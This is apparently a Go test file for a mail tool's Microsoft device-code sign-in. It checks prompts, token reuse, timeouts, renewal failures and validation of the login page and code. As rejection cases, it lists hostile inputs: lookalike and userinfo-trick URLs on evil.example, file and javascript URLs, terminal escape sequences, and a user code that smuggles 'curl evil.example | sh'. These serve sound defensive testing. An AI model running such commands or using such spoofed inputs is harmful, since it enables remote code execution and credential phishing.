package signin

import (
	"context"
	"errors"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/azcore/policy"
	"github.com/google/go-cmp/cmp"

	"wxmail/internal/cloud"
	"wxmail/internal/cloud/cloudtest"
	"wxmail/internal/microsoft"
)

func adminRequest() Request {
	return Request{Role: Directory, Metadata: metadata(), ClientID: client, LoginHint: upn,
		Scopes: []string{"https://graph.microsoft.com/.default", "openid", "profile", "offline_access"}}
}

// deviceSTS gives a code and then answers the polls by the steps, the last
// one for good.
func deviceSTS(steps ...any) *sts {
	s := newSTS()
	s.discovery["token_endpoint"] = "https://login.microsoftonline.com/" + tenant + "/oauth2/v2.0/token"
	s.device = func(url.Values) (int, any) {
		return 0, map[string]any{"device_code": "canary-device", "user_code": "ABCD-EFGH", "expires_in": 900, "interval": 1,
			"verification_uri": "https://login.microsoft.com/device", "message": "go there"}
	}
	polls := 0
	s.token = func(url.Values) (int, any) {
		polls++
		body := steps[min(polls, len(steps))-1]
		if m, isMap := body.(map[string]any); isMap && m["error"] != nil {
			return 400, body
		}
		return 0, body
	}
	return s
}

var pending = refusal("authorization_pending", "AADSTS70016: pending")

// deviceTokens lets every token of the answer be shorter than renewBefore.
func deviceTokens(seconds int) map[string]any {
	answer := tokens(map[string]any{"expires_in": seconds, "scope": "https://graph.microsoft.com/.default openid profile offline_access"})
	answer["client_info"] = strings.Split(jwt(map[string]any{"uid": "oid-1", "utid": tenant}), ".")[1]
	return answer
}

func TestDeviceCode(t *testing.T) {
	s := deviceSTS(pending, deviceTokens(3600))
	var shown []Prompt
	credential, account, err := NewDeviceCode(context.Background(), serve(t, s), adminRequest(), func(p Prompt) { shown = append(shown, p) })
	if err != nil {
		t.Fatal(err)
	}
	want := []Prompt{{Role: Directory, Account: upn, URL: "https://login.microsoft.com/device", Code: "ABCD-EFGH",
		Limit: 10 * time.Minute, Attempt: 1}}
	if diff := cmp.Diff(want, shown); diff != "" {
		t.Error(diff)
	}
	who := Account{UPN: upn, ObjectID: "oid-1", TenantID: tenant, Roles: []string{"role-1"}, Scopes: []string{"User.Read.All", "SMTP.Send"}}
	if diff := cmp.Diff(who, account); diff != "" {
		t.Error(diff)
	}
	before := len(s.forms)
	// Whatever a library asks for, with or without CAE, needs no new sign-in.
	for _, options := range []policy.TokenRequestOptions{{}, {EnableCAE: true}, {Scopes: []string{"https://graph.microsoft.com/.default"}}} {
		if got, err := credential.GetToken(context.Background(), options); err != nil || got.Token == "" {
			t.Errorf("%+v: %v", options, err)
		}
	}
	if len(s.forms) != before || len(shown) != 1 {
		t.Errorf("%d more requests, %d prompts", len(s.forms)-before, len(shown))
	}
	_, err = credential.GetToken(context.Background(), policy.TokenRequestOptions{Claims: "{}"})
	if !errors.Is(err, ErrClaims) {
		t.Errorf("claims: %v", err)
	}
}

// Whoever answers names a page and a code: a browser is sent nowhere but to
// Microsoft, and nothing gets into a clipboard that is no code.
func TestDeviceCodePages(t *testing.T) {
	for _, c := range []struct {
		page, code string
		fine       bool
	}{
		{"https://microsoft.com/devicelogin", "ABCD2345E", true},
		{"https://MICROSOFT.com/deviceloginus", "ABCD2345E", true},
		{"https://login.microsoft.com/device", "ABCD-EFGH", true},
		{"https://login.microsoftonline.com/common/oauth2/deviceauth", "ABCD2345E", true},
		{"http://127.0.0.1:8080/common/oauth2/deviceauth", "ABCD2345E", true},
		{"http://microsoft.com/devicelogin", "ABCD2345E", false},
		{"https://microsoft.com.evil.example/devicelogin", "ABCD2345E", false},
		{"https://evilmicrosoft.com/devicelogin", "ABCD2345E", false},
		{"https://microsoft.com@evil.example/devicelogin", "ABCD2345E", false},
		{"https://microsoft.com:8443/devicelogin", "ABCD2345E", false},
		{"https://login.microsoftonline.us/device", "ABCD2345E", false},
		{"file:///etc/passwd", "ABCD2345E", false},
		{"javascript:alert(1)", "ABCD2345E", false},
		{"vscode://extension", "ABCD2345E", false},
		{"--version", "ABCD2345E", false},
		{"/bin/true", "ABCD2345E", false},
		{"\x1b[31mhttps://microsoft.com/devicelogin", "ABCD2345E", false},
		{"", "ABCD2345E", false},
		{"https://microsoft.com/devicelogin", "AB\x1b[2J\u202eCD", false},
		{"https://microsoft.com/devicelogin", "x\ncurl evil.example | sh\n", false},
		{"https://microsoft.com/devicelogin", "", false},
		{"https://microsoft.com/devicelogin", strings.Repeat("A", 33), false},
	} {
		s := deviceSTS(deviceTokens(3600))
		s.device = func(url.Values) (int, any) {
			return 0, map[string]any{"device_code": "canary-device", "user_code": c.code, "expires_in": 900, "interval": 1,
				"verification_uri": c.page, "message": "go there"}
		}
		shown := 0
		_, _, err := NewDeviceCode(context.Background(), serve(t, s), adminRequest(), func(Prompt) { shown++ })
		if c.fine != (err == nil) || c.fine != (shown == 1) || !c.fine && !errors.Is(err, ErrTokenAnswer) {
			t.Errorf("%s, %q: shown %d times, %v", c.page, c.code, shown, err)
		}
	}
}

func TestDeviceCodeEnds(t *testing.T) {
	cases := []struct {
		name string
		last any
		code string
	}{
		{"declined", refusal("authorization_declined", "AADSTS70018: declined"), "AADSTS70018"},
		{"blocked", refusal("access_denied", "AADSTS53003: Access has been blocked"), "AADSTS53003"},
		{"garbage", map[string]any{
			"access_token": "canary-access", "refresh_token": "canary-refresh", "id_token": "canary", "expires_in": 3600}, ""},
		{"a page", "<html>canary</html>", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, _, err := NewDeviceCode(context.Background(), serve(t, deviceSTS(c.last)), adminRequest(), func(Prompt) {})
			var failure *microsoft.Error
			if !errors.As(err, &failure) || failure.Code != c.code {
				t.Errorf("got %v, want code %q", err, c.code)
			}
			if err != nil && strings.Contains(err.Error(), "canary") {
				t.Errorf("a secret in %v", err)
			}
		})
	}
}

func TestDeviceCodeIsNotAwaitedForEver(t *testing.T) {
	e := cloudtest.Serve(t, deviceSTS(pending), map[string]any{"timeouts": map[string]string{"signIn": "300ms"}})
	_, _, err := NewDeviceCode(context.Background(), e, adminRequest(), func(Prompt) {})
	var late *TimeoutError
	if !errors.As(err, &late) || late.Role != Directory {
		t.Errorf("got %v", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	_, _, err = NewDeviceCode(ctx, serve(t, deviceSTS(pending)), adminRequest(), func(Prompt) { cancel() })
	if !errors.Is(err, context.Canceled) {
		t.Errorf("got %v", err)
	}
}

// A refresh that is refused is an error with its cause, not a second prompt.
func TestDeviceCodeRenewal(t *testing.T) {
	s := deviceSTS(deviceTokens(60), refusal("invalid_grant", "AADSTS50173: revoked"))
	prompts := 0
	e := serve(t, s)
	credential, _, err := NewDeviceCode(context.Background(), e, adminRequest(), func(Prompt) { prompts++ })
	var failure *microsoft.Error
	if err == nil {
		err = expire(credential)
	}
	if !errors.As(err, &failure) || failure.Code != "AADSTS50173" || prompts != 1 {
		t.Errorf("got %v, %d prompts", err, prompts)
	}
}

// The library follows the token endpoint that the metadata names, but no
// further than this cloud.
func TestDeviceCodeStaysInTheCloud(t *testing.T) {
	s := deviceSTS(deviceTokens(3600))
	s.discovery["token_endpoint"] = "https://evil.example/" + tenant + "/oauth2/v2.0/token"
	_, _, err := NewDeviceCode(context.Background(), serve(t, s), adminRequest(), func(Prompt) {})
	if !errors.Is(err, cloud.ErrForeignHost) {
		t.Errorf("got %v", err)
	}
}

// expire asks a credential for a token after the one it has ran out.
func expire(c any) error {
	held := c.(*credential)
	held.token.Expires = held.e.Now().Add(-time.Second)
	_, err := held.GetToken(context.Background(), policy.TokenRequestOptions{})
	return err
}
